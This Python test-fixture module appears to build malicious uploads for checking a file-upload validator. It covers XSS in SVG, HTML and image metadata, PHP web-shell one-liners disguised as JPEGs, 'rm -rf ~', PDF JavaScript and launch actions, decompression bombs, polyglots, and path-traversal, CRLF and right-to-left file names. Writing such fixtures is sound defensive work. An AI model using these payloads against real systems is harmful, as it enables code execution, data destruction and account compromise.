"""Files that somebody made to harm: whoever stores one as it is has lost."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image, PngImagePlugin

PAYLOAD = b"<script>alert(document.domain)</script>"
PLACE = b"GPSLatitude-52.5200"


def picture(kind: str, mode: str = "RGB", size=(40, 30), **options) -> bytes:
    to = io.BytesIO()
    Image.new(mode, size).save(to, kind, **options)
    return to.getvalue()


def noise(size=(64, 64)) -> Image.Image:
    return Image.frombytes("RGB", size, random.Random(1).randbytes(size[0] * size[1] * 3))


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, data: bytes, *, colour: int = 2, depth: int = 8) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    signature = b"\x89PNG\r\n\x1a\n"
    return signature + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def packed_png(width: int, height: int) -> bytes:
    """A true picture of one colour: a few kilobytes that unpack to all those pixels."""
    packing = zlib.compressobj(9)
    row = b"\0" * (width * 3 + 1)
    data = b"".join(packing.compress(row) for _ in range(height)) + packing.flush()
    return png_of(width, height, data)


def png_with_text(zipped: bytes) -> bytes:
    clean = picture("PNG")
    text = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(zipped))
    return clean[:33] + text + clean[33:]


def archive() -> bytes:
    to = io.BytesIO()
    with zipfile.ZipFile(to, "w") as packed:
        packed.writestr("evil.js", PAYLOAD)
    return to.getvalue()


def moving(kind: str) -> bytes:
    to = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    frames[0].save(to, kind, save_all=True, append_images=frames[1:], duration=50)
    return to.getvalue()


def jpeg_with_exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = PLACE.decode()
    return picture("JPEG", exif=exif.tobytes(), comment=PAYLOAD)


def png_with_words() -> bytes:
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", PAYLOAD.decode())
    words.add_itxt("Location", PLACE.decode())
    return picture("PNG", pnginfo=words, icc_profile=PAYLOAD)


def pdf(objects: bytes = b"", *, after: bytes = b"", head: bytes = b"") -> bytes:
    body = (
        b"%PDF-1.7\n" + head + b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n" + objects
    )
    start = str(len(body)).encode()
    trailer = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 4 >>\nstartxref\n"
    return body + trailer + start + b"\n%%EOF\n" + after


def packed_objects(
    hidden: bytes, about: bytes = b"/Type /ObjStm", filters=b"/FlateDecode"
) -> bytes:
    data = zlib.compress(b"9 0 " + hidden)
    facts = about + b" /N 1 /First 4 /Filter " + filters + b" /Length " + str(len(data)).encode()
    return b"8 0 obj\n<< " + facts + b" >>\nstream\n" + data + b"\nendstream\nendobj\n"


def cut(content: bytes, share: float = 0.5) -> bytes:
    return content[: int(len(content) * share)]


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + PAYLOAD + b"</svg>"
HTML = b"<!doctype html><html><body>" + PAYLOAD + b"</body></html>"
ACTION = b"9 0 obj\n<< /S /%b >>\nendobj\n"

# What it is, what it calls itself, and how it is made. Each has to be refused.
REFUSED: list[tuple[str, str, Callable[[], bytes]]] = [
    ("nothing at all", "a.jpg", lambda: b""),
    ("one byte", "a.jpg", lambda: b"\xff"),
    ("an SVG", "logo.svg", lambda: SVG),
    ("an SVG called PNG", "logo.png", lambda: SVG),
    ("an SVG with an XML head", "a.jpg", lambda: b"<?xml version='1.0'?>" + SVG),
    ("HTML", "index.html", lambda: HTML),
    ("HTML called JPEG", "photo.jpg", lambda: HTML),
    ("HTML behind a GIF's head", "a.gif", lambda: b"GIF89a/*" + HTML),
    ("a GIF", "a.gif", lambda: picture("GIF", "P")),
    ("a moving GIF called WebP", "a.webp", lambda: moving("GIF")),
    ("a BMP", "a.bmp", lambda: picture("BMP")),
    ("a TIFF called JPEG", "a.jpg", lambda: picture("TIFF")),
    ("an icon", "favicon.ico", lambda: picture("ICO")),
    ("a photo of the type HEIC", "IMG_1.HEIC", lambda: b"\0\0\0\x18ftypheic" + bytes(400)),
    ("a film", "film.mp4", lambda: b"\0\0\0\x18ftypmp42" + bytes(400)),
    ("an archive", "a.zip", archive),
    ("an archive called PDF", "a.pdf", archive),
    ("a program of Windows", "invoice.pdf.exe", lambda: b"MZ\x90\0" + bytes(600)),
    ("a program of Linux", "a.png", lambda: b"\x7fELF" + bytes(600)),
    ("a shell script", "a.sh", lambda: b"#!/bin/sh\nrm -rf ~\n"),
    ("PHP called JPEG", "shell.php.jpg", lambda: b"<?php system($_GET['c']); ?>"),
    ("PHP behind a JPEG's head", "a.jpg", lambda: b"\xff\xd8\xff\xe0<?php system('id'); ?>"),
    ("HTML behind a PNG's head", "a.png", lambda: b"\x89PNG\r\n\x1a\n" + HTML),
    ("HTML inside a WebP's head", "a.webp", lambda: b"RIFF\x40\0\0\0WEBPVP8 " + HTML),
    ("PostScript", "a.pdf", lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file"),
    ("a letter of Word", "a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    ("noise", "a.jpg", lambda: random.Random(2).randbytes(5000)),
    ("half a JPEG", "a.jpg", lambda: cut(picture("JPEG", size=(900, 900)))),
    ("half a PNG", "a.png", lambda: cut(picture("PNG", size=(900, 900)))),
    ("half a WebP", "a.webp", lambda: cut(picture("WEBP", size=(900, 900)))),
    ("a PNG with wrong sums", "a.png", lambda: picture("PNG").replace(b"IDAT", b"IDAT\0", 1)),
    ("a bomb of 60 million pixels", "a.png", lambda: packed_png(8000, 7501)),
    ("a header that says 4 billion wide", "a.png", lambda: png_of(2**32 - 1, 1, b"")),
    ("a header that says 60,000 squared", "a.png", lambda: png_of(60_000, 60_000, b"")),
    ("a line of 30,000 pixels", "a.png", lambda: packed_png(30_000, 1)),
    ("a PNG of no size", "a.png", lambda: png_of(0, 0, b"")),
    ("a PNG whose words unpack to 100 MB", "a.png", lambda: png_with_text(bytes(10**8))),
    ("a moving PNG", "a.png", lambda: moving("PNG")),
    ("a moving WebP", "a.webp", lambda: moving("WEBP")),
    ("a file of 11 MB", "a.jpg", lambda: picture("JPEG") + bytes(11 * 1024**2)),
    ("a PDF of its head only", "a.pdf", lambda: b"%PDF-1.7\n"),
    ("half a PDF", "a.pdf", lambda: cut(pdf())),
    ("a PDF that does not begin at once", "a.pdf", lambda: b"\n" + HTML + pdf()),
    ("a PDF with an archive behind it", "a.pdf", lambda: pdf(after=archive())),
    ("a PDF whose end is in an archive", "a.pdf", lambda: pdf() + archive() + b"startxref %%EOF"),
    ("a PDF that is HTML, too", "a.pdf", lambda: pdf(head=b"%" + HTML + b"\n")),
    ("a PDF with a program", "a.pdf", lambda: pdf(ACTION % b"JavaScript /JS (app.alert(1))")),
    ("a program in other letters", "a.pdf", lambda: pdf(ACTION % b"J#61vaScr#69pt /J#53 (x)")),
    ("a program elsewhere", "a.pdf", lambda: pdf(b"9 0 obj\n<< /JS 12 0 R >>\nendobj\n")),
    ("a PDF that starts a program", "a.pdf", lambda: pdf(ACTION % b"Launch /F (calc.exe)")),
    ("a PDF with a file inside", "a.pdf", lambda: pdf(b"9 0 obj\n<< /EmbeddedFiles 4 0 R >>\n")),
    ("a PDF that sends a form", "a.pdf", lambda: pdf(ACTION % b"SubmitForm /F (http://x.test)")),
    ("a PDF with a form of XML", "a.pdf", lambda: pdf(b"9 0 obj\n<< /XFA [1 0 R] >>\nendobj\n")),
    ("a PDF with a film", "a.pdf", lambda: pdf(b"9 0 obj\n<< /Subtype /RichMedia >>\nendobj\n")),
    ("a locked PDF", "a.pdf", lambda: pdf(b"trailer\n<< /Encrypt 9 0 R >>\n")),
    ("a packed program", "a.pdf", lambda: pdf(packed_objects(b"<< /S /JavaScript /JS (x) >>"))),
    (
        "a packed program in other letters",
        "a.pdf",
        lambda: pdf(packed_objects(b"<< /S /J#61vaScript >>", about=b"/Type /Obj#53tm")),
    ),
    (
        "objects packed in an odd way",
        "a.pdf",
        lambda: pdf(packed_objects(b"<<>>", filters=b"[/ASCIIHexDecode /FlateDecode]")),
    ),
    (
        "objects that unpack to 200 MB",
        "a.pdf",
        lambda: pdf(packed_objects(bytes(200 * 1024**2))),
    ),
]

# These may be kept, as what is left of them once they are drawn anew.
CLEANED: list[tuple[str, str, Callable[[], bytes]]] = [
    ("a JPEG that tells a place", "IMG_2.jpg", jpeg_with_exif),
    ("a PNG with words and a profile", "a.png", png_with_words),
    ("a WebP with words", "a.webp", lambda: picture("WEBP", xmp=PAYLOAD, exif=b"Exif\0\0" + PLACE)),
    ("a JPEG and an archive", "a.jpg", lambda: picture("JPEG") + archive()),
    ("a JPEG and HTML", "a.jpg", lambda: picture("JPEG") + HTML),
    ("a PNG and HTML", "a.html", lambda: picture("PNG") + HTML),
    ("a JPEG and a PDF", "a.pdf", lambda: picture("JPEG") + pdf()),
    ("a JPEG with nonsense of a camera", "a.jpg", lambda: picture("JPEG", exif=b"Exif\0\0MM\0*ZZ")),
    ("a PNG called HTML", "a.html", lambda: picture("PNG")),
    ("a JPEG for print", "a.jpg", lambda: picture("JPEG", "CMYK")),
    ("a PNG of 16 bits", "a.png", lambda: picture("PNG", "I;16")),
    ("a PNG of two colours", "a.png", lambda: picture("PNG", "1")),
    ("a path in the name", "../../etc/cron.d/evil.png", lambda: picture("PNG")),
    ("a path of Windows in the name", "C:\\Windows\\system32\\a.png", lambda: picture("PNG")),
    ("a name that is read backwards", "photo\u202egnp.exe", lambda: picture("PNG")),
    ("a name with a line break", "a\r\nSet-Cookie: x=1.png", lambda: picture("PNG")),
    ("a name with a zero", "a.php\0.png", lambda: picture("PNG")),
    ("a name of 5,000 letters", "a" * 5000 + ".png", lambda: picture("PNG")),
    ("a name of nothing", "...", lambda: picture("PNG")),
]
